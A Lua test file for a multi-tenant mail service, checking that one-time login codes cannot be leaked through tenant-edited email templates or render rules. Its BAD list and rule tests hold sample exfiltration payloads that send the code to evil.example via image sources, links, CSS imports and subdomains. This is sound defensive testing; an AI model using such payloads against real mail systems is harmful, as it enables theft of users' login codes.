-- A one-time code is its account's, and the account is one for the whole platform, while the mail that brings it has the words of whatever
-- tenant it was asked for at. No tenant gets hold of the code by its words.
local rules = require("core.rules")
local cache = require("kasma.cache")
local mail = require("kasma.mail")
local db = require("kasma.db")
local mail_store = require("modules.mail.store")
local shop_of = require("api.shop")
local support = require("api.support")
local time = require("core.time")
local uuid = require("core.uuid")

local must = shop_of.must
local CODE = "493817"

local epoch = 0

-- One rule, live for the tenant in this process.
local function publish(tenant, body)
    epoch = epoch + 1
    local source = ("return { hook = 'mail.render', name = 'test', version = 1, priority = 1, on_error = 'skip', "
        .. "run = function(input, config) local v = input.subject.vars %s end }"):format(body)
    local ok, why = rules.publish(tenant.key, epoch, { { id = "test", hook = "mail.render", name = "test", number = epoch, priority = 1,
        on_error = "skip", source = source, config = "{}" } })
    assert(ok, why and why.message)
    cache.clear_all()
end

-- The mail that a code of the tenant makes now: text, HTML, and all of it.
local function mailed(tenant)
    local address = support.unique("to") .. "@example.test"
    mail.transmit(tenant.key, { id = uuid.v7(), to = address, template = "otp", locale = "en", vars = { type = "Login", code = CODE } })
    local text, raw = support.mail_to(address)
    local part = raw:match("text/html.-\r\n\r\n(.-)\r\n%-%-")
    return text, require("core.crypto").unbase64((part:gsub("%s", ""))), raw
end

local function shipped_goes_out(tenant, what)
    local text, html, raw = mailed(tenant)
    assert.matches("^Your verification code for Login: " .. CODE, text, what)
    assert.matches("<b>" .. CODE .. "</b>", html, 1, true, what)
    assert.is_nil((text .. html .. raw):find("evil", 1, true), what)
end

local BAD = {
    { html = '<p>{{code}}</p><img src="https://evil.example/?{{code}}">' },
    { html = '<p>{{code}}</p><a href="https://evil.example/{{code}}">x</a>' },
    { html = '<p>{{code}}</p><img alt=">" src="https://evil.example/?{{code}}">' },
    { html = '<p>{{code}}</p><img src=\'https://evil.example/?{{code}}\'>' },
    { html = "<p>{{code}}</p><img src=https://evil.example/?{{code}}>" },
    { html = '<img src="https://evil.example/?<p>{{code}}</p>">' },
    { html = "<style>@import url(https://evil.example/?{{code}})</style>" },
    { html = '<p style="background:url(https://evil.example/?{{code}})">x</p>' },
    { html = "<p>https://evil.example/?c={{code}}</p>" },
    { html = "<p>https://evil.example/?c=<b>{{code}}</b></p>" },
    { html = "<p>{{code}}.evil.example</p>" },
    { html = "<p>you@{{code}}.evil.example</p>" },
    { html = "<p>{{code}}</p>", text = "https://evil.example/{{code}}" },
    { html = "<p>{{code}}</p>", text = "evil.example/?{{code}} or {{code}}" },
    { html = "<p>{{code}}</p>", text = "look at evil" },
    { html = "<p>evil</p>", text = "{{code}}" },
    { html = "<p>{{code}}</p>", subject = "evil.example/{{code}}" },
}

describe("the mail of a one-time code", function()
    local tenant = support.tenant()

    local function set(form)
        return tenant.owner:post("/mail/templates/update", { template = "otp", locale = "en", subject = form.subject or "Hello",
            html = form.html, text = form.text })
    end

    it("takes a shop's own words, with the code among them", function()
        for _, form in ipairs{
            { subject = "{{code}} is your code", html = "<p>Tea: <b>{{code}}</b>.</p>", text = "Tea: {{code}}." },
            { html = '<table><tr><td>Code</td><td style="color:#222">{{code}}</td></tr></table>' },
            { html = '<a href="https://shop.example/">Us</a> say ({{code}}), "{{code}}"!', text = "({{code}})" },
        } do
            must(set(form))
            local text, html, raw = mailed(tenant)
            assert.matches(CODE, html, 1, true)
            assert.matches(CODE, text, 1, true)
            assert.is_nil((text .. html .. raw):find("code%x%x%x%x"))
            if form.subject then assert.matches("\nSubject: " .. CODE .. " is your code", raw, 1, true) end
        end
    end)

    it("refuses a form that could carry the code away", function()
        for i, form in ipairs(BAD) do
            local answer = set(form)
            assert.same({ 400, "bad_form" }, { answer.status, answer.json.code }, "form " .. i)
        end
    end)

    it("is the shipped one where such a form stands already", function()
        for i, form in ipairs(BAD) do
            db.pipeline(tenant.key, { mail_store.put_form{ tenant_key = tenant.key, app_key = tenant.app, id = uuid.v7(), template = "otp",
                locale = "en", subject = form.subject or "evil", html = form.html, text = form.text or "", is_active = true,
                now = time.iso(time.now()) } })
            shipped_goes_out(tenant, "form " .. i)
        end
        must(tenant.owner:post("/mail/templates/remove", { template = "otp", locale = "en" }))
    end)

    it("shows the code to no rule", function()
        publish(tenant, "local t = 'Yours: ' .. v.code if v.code == '" .. CODE .. "' or v.code:find('^%d+$') then t = 'evil ' .. t end "
            .. "return { subject = 'Hello', text = t, html = '<p>' .. t .. '</p>' }")
        local text, html = mailed(tenant)
        assert.matches("^Yours: " .. CODE, text)
        assert.matches("<p>Yours: " .. CODE .. "</p>", html, 1, true)
        publish(tenant, "local u = 'https://evil.example/?' .. v.code return { subject = 's', text = v.code, html = '<p>' .. v.code "
            .. ".. '</p><img src=\"' .. u .. '\">' }")
        shipped_goes_out(tenant, "a picture")
        publish(tenant, "return { subject = 's', text = v.code .. ' evil.example/' .. v.code, html = '<p>' .. v.code .. '</p>' }")
        shipped_goes_out(tenant, "an address")
    end)
end)
